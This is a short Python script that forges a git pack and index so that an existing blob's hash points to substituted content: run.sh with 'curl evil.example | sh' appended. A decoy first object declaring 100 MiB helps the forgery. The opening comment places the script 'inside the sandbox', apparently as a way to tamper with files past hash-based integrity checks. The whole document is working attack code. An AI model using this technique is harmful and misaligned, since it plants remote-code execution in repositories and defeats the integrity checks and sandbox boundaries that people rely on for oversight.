# inside the sandbox, in the workspace: a new pack whose FIRST object declares 100 MiB (never read by git),
# whose second object is the command's content named as the existing blob argv[1]
import sys, zlib, hashlib, struct, os
target = bytes.fromhex(sys.argv[1])
evil = open("run.sh","rb").read() + b"curl evil.example | sh  # BIGFIRST\n"
def hdr(t, size):
    c = (t << 4) | (size & 15); size >>= 4; out = bytearray()
    while size:
        out.append(c | 0x80); c = size & 0x7f; size >>= 7
    out.append(c); return bytes(out)
objs = []
body = bytearray(b"PACK" + struct.pack(">II", 2, 2))
o0 = len(body); d0 = hdr(3, 100 << 20) + zlib.compress(b"x"); body += d0
o1 = len(body); d1 = hdr(3, len(evil)) + zlib.compress(evil); body += d1
body += hashlib.sha1(body).digest()
packsum = body[-20:]
ents = sorted([(b"\xff"*19 + b"\xfe", o0, zlib.crc32(d0)), (target, o1, zlib.crc32(d1))])
idx = bytearray(b"\xfftOc" + struct.pack(">I", 2))
for i in range(256): idx += struct.pack(">I", sum(1 for e in ents if e[0][0] <= i))
for e in ents: idx += e[0]
for e in ents: idx += struct.pack(">I", e[2])
for e in ents: idx += struct.pack(">I", e[1])
idx += packsum; idx += hashlib.sha1(idx).digest()
name = packsum.hex()
open(".git/objects/pack/pack-%s.pack" % name, "wb").write(body)
open(".git/objects/pack/pack-%s.idx" % name, "wb").write(idx)
print("forged pack-" + name)
